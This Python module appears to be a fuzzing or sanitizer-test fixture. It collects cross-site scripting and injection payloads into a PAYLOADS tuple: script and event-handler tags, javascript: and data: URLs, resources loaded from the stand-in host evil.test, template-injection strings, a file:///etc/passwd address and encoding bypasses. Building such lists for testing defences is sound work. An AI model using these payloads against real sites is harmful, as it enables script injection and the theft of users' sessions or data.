"""Texts that would run, load or break something wherever a page takes text for markup, script, style or an address."""

from __future__ import annotations

_ELEMENTS = [
    "<script>hit()</script>", "<SCRIPT>hit()</SCRIPT>", "<script src=//evil.test/x.js></script>", "</script><script>hit()</script>",
    "</script><svg/onload=hit()>", "<img src=x onerror=hit()>", "<img src=//evil.test/x.png>", "<img/src='x'/onerror=hit()>",
    "<svg onload=hit()>", "<svg><script>hit()</script></svg>", "<svg><animate onbegin=hit() attributeName=x dur=1s>",
    "<svg><set attributeName=onmouseover to=hit()>", "<svg><use href=//evil.test/x.svg#x>", "<svg><a xlink:href=javascript:hit()><text>x",
    "<svg><foreignObject><iframe srcdoc='<script>hit()</script>'>", "<svg><image href=//evil.test/x.svg onerror=hit()>",
    "<iframe src=javascript:hit()>", "<iframe srcdoc='<script>parent.hit()</script>'></iframe>", "<iframe src=//evil.test/>",
    "<object data=javascript:hit()>", "<object data=//evil.test/x>", "<embed src=javascript:hit()>", "<embed src=//evil.test/x>",
    "<body onload=hit()>", "<body onpageshow=hit()>", "<input autofocus onfocus=hit()>", "<select autofocus onfocus=hit()>",
    "<textarea autofocus onfocus=hit()>", "<details open ontoggle=hit()>", "<video src=x onerror=hit()>", "<audio src=x onerror=hit()>",
    "<video><source onerror=hit()>", "<video poster=//evil.test/x.png>", "<marquee onstart=hit()>", "<math href=javascript:hit()>CLICK",
    "<math><mtext><script>hit()</script>", "<form action=javascript:hit()><button>", "<button formaction=javascript:hit()>",
    "<isindex action=javascript:hit() type=submit>", "<keygen autofocus onfocus=hit()>", "<base href=//evil.test/>",
    "<link rel=stylesheet href=//evil.test/x.css>", "<link rel=import href=//evil.test/>", "<link rel=preload as=image href=//evil.test/x>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>", "<meta http-equiv=refresh content='0;url=//evil.test/'>",
    "<style>@import '//evil.test/x.css';</style>", "<style>*{background:url(//evil.test/x)}</style>", "</style><script>hit()</script>",
    "</title><script>hit()</script>", "</textarea><script>hit()</script>", "</noscript><script>hit()</script>",
    "<noscript><p title='</noscript><img src=x onerror=hit()>'>", "<!--<script>hit()</script>", "--><script>hit()</script>",
    "<![CDATA[<script>hit()</script>]]>", "]]><script>hit()//", "<template><script>hit()</script></template>", "<xss id=x tabindex=1 onfocus=hit()>",
    "<a href=javascript:hit()>x</a>", "<a href='//evil.test/' autofocus onfocus=hit()>x</a>", "<p onpointerenter=hit()>x</p>",
]
_QUOTES = [
    "\"><svg onload=hit()>", "'><img src=x onerror=hit()>", "\" onmouseover=\"hit()", "' onfocus='hit()' autofocus='", "`onerror=hit()`",
    "'-hit()-'", "\"-hit()-\"", "';hit();//", "\";hit();//", "\\\";hit();//", "\\'-hit()//", "${hit()}", "`${hit()}`", "{{7*7}}", "{{hit()}}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% endfor %}", "<%= hit() %>", "#{hit()}", "[[hit()]]", "__proto__", "constructor",
]
_ADDRESSES = [
    "javascript:hit()", "JaVaScRiPt:hit()", "java\tscript:hit()", "java\nscript:hit()", " javascript:hit()", "\x01javascript:hit()",
    "javascript&colon;hit()", "&#106;avascript:hit()", "data:text/html,<script>hit()</script>", "vbscript:hit()", "//evil.test/x",
    "https://evil.test/\"onmouseover=\"hit()", "file:///etc/passwd", "blob:hit()", "view-source:javascript:hit()",
]
_BREAKS = ["\u2028hit()\u2029", "\x00<script>hit()</script>", "\ufeff<script>hit()</script>", "＜script＞hit()＜/script＞", "<scr\x00ipt>hit()</script>",
           "\u202e<script>hit()</script>", "%3Cscript%3Ehit()%3C/script%3E", "&lt;script&gt;hit()&lt;/script&gt;", "+ADw-script+AD4-hit()+ADw-/script+AD4-"]

PAYLOADS = tuple(_ELEMENTS + _QUOTES + _ADDRESSES + _BREAKS)
